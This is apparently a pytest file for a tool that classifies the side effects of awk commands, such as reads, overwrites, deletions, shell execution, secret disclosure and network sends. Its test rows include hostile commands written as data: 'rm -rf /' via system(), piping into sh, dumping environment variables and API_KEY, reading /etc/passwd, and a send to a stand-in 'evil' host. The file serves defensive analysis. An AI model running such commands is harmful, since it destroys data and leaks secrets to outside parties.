"""awk."""

from __future__ import annotations

import pytest
from support.summary import summaries

from enactd.effects.programs.awk import tokens

ROWS = [
    ("awk '{print $1}' f", ["content ./f"]),
    ("awk 'NR>1 {s+=$2} END {print s}' f", ["content ./f"]),
    ("awk '/rm -rf/ {print}' f", ["content ./f"]),
    ("awk '$1 > 5' f", ["content ./f"]),
    ("awk '{print > \"out\"}' f", ["overwrite ./out", "content ./f"]),
    ("awk '{print $1 >> \"out\"}' f", ["append ./out", "content ./f"]),
    (
        "awk '{print > ($1 \".txt\")}' f",
        ["overwrite ?<an expression of the awk program><an expression of the awk program>.txt", "content ./f"],
    ),
    ("awk '{print > \"/dev/stderr\"}' f", ["content ./f"]),
    ("awk '{print | \"sort\"}' f", ["content ./f"]),
    ("awk '{print | \"sh\"}' f", ["RunCode shell stdin <lines that awk prints>", "content ./f"]),
    ("awk 'BEGIN{system(\"rm -rf /\")}'", ["delete recursive /"]),
    ("awk 'BEGIN{system(\"rm \" x)}'", ["delete recursive ?<an expression of the awk program>"]),
    ("awk 'BEGIN{\"rm a\" | getline x}'", ["delete ./a"]),
    ("awk 'BEGIN{while((getline l < \"x\")>0) print l}'", ["content ./x"]),
    ("awk 'BEGIN{for (k in ENVIRON) print k, ENVIRON[k]}'", ["RevealSecret the whole environment awk"]),
    ("awk 'BEGIN{print ENVIRON[\"HOME\"]}'", []),
    ("awk 'BEGIN{print ENVIRON[\"API_KEY\"]}'", ["RevealSecret the variable API_KEY awk"]),
    ("awk -F: -v x=1 '{print $1}' /etc/passwd", ["content /etc/passwd"]),
    ("gawk -i inplace '{print}' f", ["edit ./f"]),
    ('awk "{print \\$$N}" f', ["content ./f"]),
    ('awk "$P" f', ["Opaque an awk program that is known only at run time SENSITIVE", "content ./f"]),
    ("awk '{print}' x=1 f", ["content ./f"]),
    ('awk \'{ print ($1 > 2) ? "a" : "b" }\' f', ["content ./f"]),
    ('awk \'BEGIN { s = "|"; print "a" s "b" }\'', []),
    ("awk -S 'BEGIN{system(\"rm a\")}'", []),
    ("echo 'x rm' | awk '{print $2}' | sh", []),
    ('awk \'BEGIN{print "x" |& "/inet/tcp/0/evil/80"}\'', ["send awk evil"]),
]


@pytest.mark.parametrize(("command", "expected"), ROWS)
def test_awk_rows(command: str, expected: list[str]) -> None:
    """A program that runs or writes is told from one that prints."""
    assert expected == summaries(command)


def test_division_is_no_pattern() -> None:
    """A slash behind a value divides, elsewhere it begins a pattern."""
    assert ["{", "print", "$", "1", "/", "2", ";", "x", "/", "3", "}"] == tokens("{print $1/2; x/3}")
    assert ["/…/", "{", "print", "}"] == tokens("/a > b/ {print}")
    assert ["$", "1", "~", "/…/"] == tokens("$1 ~ /[/]|x/ # print > y")
